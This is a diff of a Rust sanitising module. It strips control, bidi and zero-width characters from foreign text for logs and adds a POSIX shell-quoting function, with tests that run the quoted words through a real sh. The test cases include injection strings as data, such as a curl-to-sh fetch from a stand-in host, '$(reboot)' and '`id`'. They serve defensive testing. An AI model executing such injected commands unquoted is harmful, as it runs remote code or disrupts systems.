@@ -1,18 +1,34 @@
 //! Text from outside (guests, manifests, platforms) made safe to print.
 
 /// One line, control characters (ANSI escapes, newlines) replaced by
-/// spaces, at most `max` characters (then `…`). For logs and terminal
-/// reports, where foreign text must not forge lines or move the cursor.
+/// spaces and the other [hidden](crate::mcp::sanitize::hidden) characters
+/// (bidi overrides that reorder what the terminal shows, zero-width ones)
+/// removed, at most `max` characters (then `…`). For logs and terminal
+/// reports, where foreign text must not forge lines, move the cursor or
+/// disguise itself.
 pub fn one_line(text: &str, max: usize) -> String {
-    let mut out: String = text
+    let mut shown = text
         .chars()
-        .map(|c| if c.is_control() { ' ' } else { c })
-        .take(max)
-        .collect();
-    if text.chars().count() > max {
+        .filter(|c| c.is_control() || !crate::mcp::sanitize::hidden(*c))
+        .map(|c| if c.is_control() { ' ' } else { c });
+    let mut out: String = shown.by_ref().take(max).collect();
+    if shown.next().is_some() {
         out.push('…');
     }
     out
+}
+
+/// `word` as one shell word that a POSIX shell (sh, bash, zsh) reads back
+/// unchanged: bare when it is only characters no shell treats specially,
+/// else in single quotes, with each `'` written `'\''`. For commands the CLI
+/// suggests that contain foreign text, which the operator may copy and paste.
+pub fn shell_quote(word: &str) -> String {
+    let bare = |c: char| c.is_ascii_alphanumeric() || "_-.,:/@%+=".contains(c);
+    if !word.is_empty() && word.chars().all(bare) && !word.starts_with('=') {
+        word.to_string()
+    } else {
+        format!("'{}'", word.replace('\'', "'\\''"))
+    }
 }
 
 /// Take the first complete line (with its `\n`) off the front of `pending`;
@@ -38,7 +54,49 @@ mod tests {
     #[test]
     fn controls_and_length() {
         assert_eq!(one_line("a\nb\u{1b}[2Jc", 100), "a b [2Jc");
+        assert_eq!(one_line("a\u{9b}b\u{202E}c\u{200B}d", 100), "a bcd");
         assert_eq!(one_line("abcdef", 3), "abc…");
+        assert_eq!(one_line("abc\u{202E}", 3), "abc");
         assert_eq!(one_line("", 3), "");
+    }
+
+    /// Each quoted word, read back by a real `sh`, is the word itself.
+    #[test]
+    fn shell_quoting() {
+        let cases = [
+            ("12345", "12345"),
+            ("-1001234567890", "-1001234567890"),
+            ("user@example.org", "user@example.org"),
+            (
+                "1; curl -s http://x.example|sh #",
+                "'1; curl -s http://x.example|sh #'",
+            ),
+            ("it's", "'it'\\''s'"),
+            ("$(reboot)", "'$(reboot)'"),
+            ("`id`", "'`id`'"),
+            ("a b", "'a b'"),
+            ("~root", "'~root'"),
+            ("*", "'*'"),
+            ("=cmd", "'=cmd'"),
+            ("line\nbreak", "'line\nbreak'"),
+            ("", "''"),
+            ("'", "''\\'''"),
+            ("zoë", "'zoë'"),
+        ];
+        for (word, want) in cases {
+            assert_eq!(shell_quote(word), want, "{word:?}");
+        }
+        let script: String = cases
+            .iter()
+            .map(|(word, _)| format!("printf '%s\\0' {}\n", shell_quote(word)))
+            .collect();
+        let out = std::process::Command::new("sh")
+            .args(["-c", &script])
+            .output()
+            .expect("sh");
+        let words: Vec<&str> = cases.iter().map(|(word, _)| *word).collect();
+        let back = String::from_utf8(out.stdout).unwrap();
+        let back: Vec<&str> = back.split_terminator('\0').collect();
+        assert_eq!(back, words);
     }
 }
